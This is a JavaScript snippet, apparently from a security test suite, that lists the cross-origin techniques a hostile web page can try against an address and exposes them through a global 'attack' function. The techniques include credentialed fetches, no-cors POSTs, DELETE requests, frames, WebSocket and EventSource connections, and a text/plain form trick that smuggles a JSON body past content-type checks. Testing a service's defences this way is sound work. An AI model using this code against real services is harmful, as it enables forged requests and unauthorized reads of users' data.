/** What a web page that means ill can try against an address. Each technique settles with what it gained, null for nothing. */
(() => {
  const ANSWER_MS = 45_000;

  const gained = (begin) =>
    new Promise((resolve) => {
      setTimeout(() => resolve("no answer"), ANSWER_MS);
      begin(resolve);
    });

  const asked = (url, options) =>
    fetch(url, { credentials: "include", ...options }).then(
      async (answer) => `${answer.type} ${answer.status} ${await answer.text()}`,
      () => null,
    );

  const element = (name, properties) =>
    gained((resolve) => {
      const made = Object.assign(document.createElement(name), properties, {
        onload: () => resolve(`${name} loaded`),
        onerror: () => resolve(null),
      });
      document.body.append(made);
    });

  /** A frame is always loaded, with an error if need be; what counts is whether it can be looked into. */
  const frame = (properties, begin) =>
    gained((resolve) => {
      const made = Object.assign(document.createElement("iframe"), properties);
      const loaded = () => {
        const text = made.contentDocument?.documentElement.innerText;
        resolve(text ? `frame ${text}` : null);
      };
      // Without an address a frame has loaded when it is there.
      if (begin) document.body.append(made);
      made.onload = loaded;
      if (begin) begin();
      else document.body.append(made);
    });

  let frames = 0;

  const techniques = {
    fetch: (url) => asked(url),
    "blind fetch": (url) => asked(url, { mode: "no-cors" }),
    post: (url, body) => asked(url, { method: "POST", headers: { "Content-Type": "application/json" }, body }),
    "blind post": (url, body) => asked(url, { method: "POST", mode: "no-cors", headers: { "Content-Type": "text/plain" }, body }),
    head: (url) => asked(url, { method: "HEAD", mode: "no-cors" }),
    delete: (url) => asked(url, { method: "DELETE" }),
    beacon: async (url, body) => (navigator.sendBeacon(url, body), null),
    image: (url) => element("img", { src: url }),
    script: (url) => element("script", { src: url }),
    style: (url) => element("link", { rel: "stylesheet", href: url }),
    frame: (url) => frame({ src: url }),
    form: (url, body) => {
      const name = `frame${frames++}`;
      // A form in text/plain writes name=value: the equals sign goes into a field that nobody reads.
      const field = Object.assign(document.createElement("input"), { name: `${body.slice(0, -1)},"x":"`, value: '"}' });
      const form = Object.assign(document.createElement("form"), { method: "POST", action: url, enctype: "text/plain", target: name });
      form.append(field);
      document.body.append(form);
      return frame({ name }, () => form.submit());
    },
    events: (url) =>
      gained((resolve) => {
        const source = new EventSource(url, { withCredentials: true });
        source.onopen = () => resolve("events opened");
        source.onerror = () => resolve((source.close(), null));
      }),
    socket: (url) =>
      gained((resolve) => {
        const socket = new WebSocket(url.replace(/^http/, "ws"));
        socket.onopen = () => resolve("socket opened");
        socket.onmessage = ({ data }) => resolve(`socket said ${data}`);
        socket.onclose = () => resolve(null);
      }),
  };

  /** All of it, or the named ones, at once; `body` is what is posted. The result is [technique, url, gain] for each gain. */
  window.attack = async (urls, body, names = Object.keys(techniques)) => {
    const tried = names.flatMap((name) => urls.map(async (url) => [name, url, await techniques[name](url, body)]));
    return (await Promise.all(tried)).filter(([, , gain]) => gain !== null);
  };
})();
